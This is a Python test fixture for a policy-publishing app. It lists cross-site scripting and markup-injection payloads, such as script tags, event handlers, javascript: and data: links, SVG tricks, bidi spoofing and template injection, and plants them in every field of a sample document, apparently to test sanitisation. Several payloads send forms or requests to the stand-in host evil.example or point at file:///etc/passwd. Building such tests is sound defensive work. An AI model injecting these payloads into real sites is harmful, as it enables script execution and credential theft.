"""Attacks as people write them into texts, each in our own words, and a text that says them all."""

from dataclasses import replace

from policies.domain.content import GuidanceItem, ItemKind, VersionContent
from tests.formats.samples import law, policy, section

# For a line of plain words: titles, names, summaries.
LINES = (
    "</title><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "--><svg onload=alert(1)>",
    "]]></title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "{{ settings.SECRET_KEY }} {% load static %}",
    "javascript:alert(1)",
    '=HYPERLINK("https://evil.example")',
)
# For Markdown.
BODIES = (
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)" style="position:fixed">words</p>',
    "<a href='https://evil.example' ping='https://evil.example' target=_top>words</a>",
    "[words](javascript:alert(1))",
    "[words](JaVa\tScRiPt&colon;alert(1))",
    "[words](&#x6A;avascript&#58;alert(1))",
    "[words](\x01javascript:alert(1))",
    "[words](vbscript:msgbox(1))",
    "[words](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "[words][x]\n\n[x]: javascript:alert(1)",
    "![words](javascript:alert(1)) ![words](https://evil.example/seen.png)",
    "<svg><a xlink:href='javascript:alert(1)'><text>words</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='file:///etc/passwd'></object><embed src='file:///etc/passwd'>",
    "<link rel=attachment href='file:///etc/passwd'><link rel=stylesheet href='//evil.example'>",
    "<form action='https://evil.example'><input name=password><button formaction='//evil.example'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='//evil.example'>",
    "<style>@import '//evil.example'</style><p style='background:url(//evil.example)'>words</p>",
    "<details ontoggle=alert(1) open><summary>words</summary></details>",
    "# words {#x onclick=alert(1) style=color:red}\n\n*words*{: onclick=alert(1) }",
    'words[^1]\n\n[^1]: <img src=x onerror=alert(1)>\n[^"><svg onload=alert(1)>]: words',
    '*[words]: "onmouseover=alert(1) x="\n\nwords',
    "`</code><img src=x onerror=alert(1)>`\n\n    </pre><script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | b |\n|:--|--:|\n| <td onclick=alert(1)> | [x](data:,x) |",
    "<!--><script>alert(1)</script>--> <![CDATA[<script>alert(1)</script>]]> <?php x ?>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "\u202egpj.exe\u202c <b>\u2066words\u2069</b> \ufeff<\u200bscript>alert(1)</\u200bscript>",
    "<a href='https://council.example\u202e/moc.live//:sptth'>words</a>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    # No door takes NUL: forms and files with it are refused.
    "\x01<script\x0b>alert(1)</script\x01> <img/src=x/onerror=alert(1)>",
)


def hostile(number: str = "1.0", **changes: object) -> VersionContent:
    """A text with an attack in every place where words can stand."""
    line, everything = " ".join(LINES), "\n\n".join(BODIES)
    parts = [section("1", line[:150], f"Beware: thornbywords.\n\n{everything}", laws=("x",))]
    parts.append(
        replace(
            section("2", LINES[1], "\n\n".join(f"- {one}" for one in LINES), key="definitions"),
            items=tuple(
                GuidanceItem(kind=kind, text=f"{LINES[1]} {BODIES[2]}", reason=BODIES[0],
                             is_key_point=True)
                for kind in ItemKind
            ),
        )
    )  # fmt: skip
    told = dict.fromkeys(("summary", "audience", "coverage", "change_summary"), line[:190])
    known = law(code="x", short_title=LINES[0], provision=LINES[1], topic=LINES[2],
                summary=line, care=BODIES[2], address="javascript:alert(1)")  # fmt: skip
    fields: dict[str, object] = {
        "number": number, "title": LINES[1], "sections": tuple(parts), "laws": (known,),
        "change_reason": line[:190], "keywords": LINES[:2], **told, **changes,
    }  # fmt: skip
    return policy(**fields)
